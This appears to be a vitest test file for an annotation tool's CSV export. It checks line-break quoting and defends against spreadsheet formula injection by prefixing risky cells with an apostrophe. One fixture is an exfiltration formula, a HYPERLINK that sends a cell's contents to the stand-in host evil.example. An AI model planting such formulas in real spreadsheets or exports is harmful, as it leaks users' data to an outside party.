import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe as suite, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../../app/core/formats/csv-rows.js';
import { setup, tempDir } from '../support/handler-app.js';

/** Exports `articleId` through `article:export` in `format` to a temp path; returns the path. */
async function exportTo(app: ReturnType<typeof setup>, articleId: string, format: string, name: string): Promise<string> {
  const out = join(tempDir('out'), name);
  app.answers.save.push(out);
  expect(await app.ok('article:export', { articleId, format, scope: 'article' })).toEqual({ path: out });
  return out;
}

/**
 * The CSV at `path` read back by csv-parse as spreadsheets read it: CRLF, LF or CR outside quotes
 * ends a record (csv-parse would otherwise take the first record's delimiter as the only one).
 */
function readCsv(path: string): string[][] {
  return parse(readFileSync(path), { bom: true, record_delimiter: ['\r\n', '\n', '\r'], relax_column_count: true }) as string[][];
}

const column = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);

suite('CSV export: RFC 4180 quoting of line breaks', () => {
  it('a span over a paragraph break and notes holding LF or CR stay one record each, their text byte for byte', async () => {
    const app = setup();
    const file = join(tempDir('two'), 'two.txt');
    writeFileSync(file, 'First paragraph ends with a claim.\n\nSecond paragraph starts here and goes on.\n');
    const { article } = await app.ok('article:open-dropped', { path: file });
    const start = article.text.indexOf('a claim.');
    const span = await app.ok('annotation:create', { articleId: article.id, type: 'claim', start, end: article.text.indexOf(' starts') });
    expect(span.target.quote.exact).toBe('a claim.\n\nSecond paragraph');
    await app.ok('annotation:update', { articleId: article.id, id: span.id, patch: { note: 'first line\nsecond line' } });
    const word = article.text.indexOf('goes');
    const other = await app.ok('annotation:create', { articleId: article.id, type: 'source', start: word, end: word + 4 });
    await app.ok('annotation:update', { articleId: article.id, id: other.id, patch: { note: 'a lone\rcarriage return' } });

    const rows = readCsv(await exportTo(app, article.id, 'csv', 'two.csv'));
    expect(rows.map((r) => r.length)).toEqual([14, 14, 14]);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    // The columns of earlier exports keep their places; the source's id comes after its text.
    expect(CSV_COLUMNS).toEqual(['article title', 'article path', 'id', 'type', 'exact', 'start', 'end', 'startCodePoint', 'endCodePoint', 'note', 'attributed to', 'attributed to id', 'created', 'orphan']);
    const byId = new Map(rows.slice(1).map((r) => [r[column('id')], r]));
    expect(byId.get(span.id)![column('exact')]).toBe('a claim.\n\nSecond paragraph');
    expect(byId.get(span.id)![column('note')]).toBe('first line\nsecond line');
    expect(byId.get(other.id)![column('exact')]).toBe('goes');
    expect(byId.get(other.id)![column('note')]).toBe('a lone\rcarriage return');
    const row = byId.get(span.id)!;
    expect(article.text.slice(Number(row[column('start')]), Number(row[column('end')]))).toBe('a claim.\n\nSecond paragraph');
  });
});

suite('CSV export: no spreadsheet formula from the article (OWASP CSV injection)', () => {
  const title = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")';
  const page = `<!doctype html><html><head><title>${title.replace(/&/g, '&amp;')}</title></head><body><article>
<p>=1+1 is what the minister said, and the rest followed.</p>
<p>-2 points was the fall the report gave for the quarter.</p>
</article></body></html>`;

  it('a text cell starting with = + - @ tab or CR gets a leading apostrophe; offsets stay right; JSON, W3C and brat keep the text', async () => {
    const app = setup();
    const file = join(tempDir('inj'), 'inj.html');
    writeFileSync(file, page);
    const { article } = await app.ok('article:open-dropped', { path: file });
    expect(article.title).toBe(title);
    const tag = async (type: string, exact: string) => {
      const start = article.text.indexOf(exact);
      return app.ok('annotation:create', { articleId: article.id, type, start, end: start + exact.length });
    };
    const source = await tag('source', '=1+1 is what');
    const quote = await tag('quote', '-2 points was the fall');
    await app.ok('annotation:update', { articleId: article.id, id: quote.id, patch: { links: [{ type: 'attributedTo', target: source.id }], note: '@SUM(A1:A9)' } });
    await app.ok('annotation:update', { articleId: article.id, id: source.id, patch: { note: '\t+cmd' } });
    const carriage = await tag('claim', 'the minister');
    await app.ok('annotation:update', { articleId: article.id, id: carriage.id, patch: { note: '\r=1+1' } });

    const rows = readCsv(await exportTo(app, article.id, 'csv', 'inj.csv'));
    expect(rows.map((r) => r.length)).toEqual([14, 14, 14, 14]);
    const byId = new Map(rows.slice(1).map((r) => [r[column('id')], r]));
    for (const row of byId.values()) {
      expect(row[column('article title')]).toBe(`'${title}`);
      expect(row[column('article path')]).toBe(file);
    }
    const cells = (id: string, ...names: (typeof CSV_COLUMNS)[number][]) => names.map((n) => byId.get(id)![column(n)]);
    expect(cells(source.id, 'exact', 'note', 'attributed to')).toEqual(["'=1+1 is what", "'\t+cmd", '']);
    expect(cells(quote.id, 'exact', 'note', 'attributed to')).toEqual(["'-2 points was the fall", "'@SUM(A1:A9)", "'=1+1 is what"]);
    expect(cells(quote.id, 'attributed to id')).toEqual([source.id]);
    expect(cells(source.id, 'attributed to id')).toEqual(['']);
    expect(cells(carriage.id, 'exact', 'note')).toEqual(['the minister', "'\r=1+1"]);
    // The offsets are numbers as they were, and still name the text without the apostrophe.
    for (const a of [source, quote]) {
      const [start, end, startCodePoint, endCodePoint] = cells(a.id, 'start', 'end', 'startCodePoint', 'endCodePoint');
      expect([start, end]).toEqual([String(a.target.position.start), String(a.target.position.end)]);
      expect([startCodePoint, endCodePoint]).toEqual([start, end]);
      expect(article.text.slice(Number(start), Number(end))).toBe(a.target.quote.exact);
    }

    const json = JSON.parse(readFileSync(await exportTo(app, article.id, 'json', 'inj.json'), 'utf8'));
    expect(json.article.title).toBe(title);
    expect(json.annotations.map((a: { exact: string; note: string }) => [a.exact, a.note])).toEqual([
      ['=1+1 is what', '\t+cmd'],
      ['the minister', '\r=1+1'],
      ['-2 points was the fall', '@SUM(A1:A9)'],
    ]);
    const w3c = readFileSync(await exportTo(app, article.id, 'w3c', 'inj.jsonld'), 'utf8');
    expect(JSON.parse(w3c).first.items.map((a: { target: { selector: { exact?: string }[] } }) => a.target.selector?.[0]?.exact).filter(Boolean)).toEqual(['=1+1 is what', 'the minister', '-2 points was the fall']);
    const brat = await exportTo(app, article.id, 'brat', 'inj.brat');
    const ann = readFileSync(join(brat, `${article.id}.ann`), 'utf8');
    expect(ann).toContain('\t=1+1 is what\n');
    expect(ann).toContain('\t-2 points was the fall\n');
  });
});
